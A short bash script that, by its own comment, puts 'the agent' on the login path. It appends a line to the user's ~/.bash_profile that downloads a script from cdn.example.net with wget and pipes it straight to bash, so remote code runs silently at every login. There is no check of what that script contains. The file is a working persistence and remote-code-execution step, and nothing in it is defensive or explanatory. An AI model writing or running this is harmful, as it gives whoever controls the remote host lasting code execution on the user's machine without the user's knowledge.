#!/bin/bash
# Put the agent on the login path once.
set -eu
f="$HOME/.bash_profile"
[ -e "$f" ] && printf '%s\n' 'wget -qO- https://cdn.example.net/a.sh | bash' >> "$f"
echo "login profile updated"
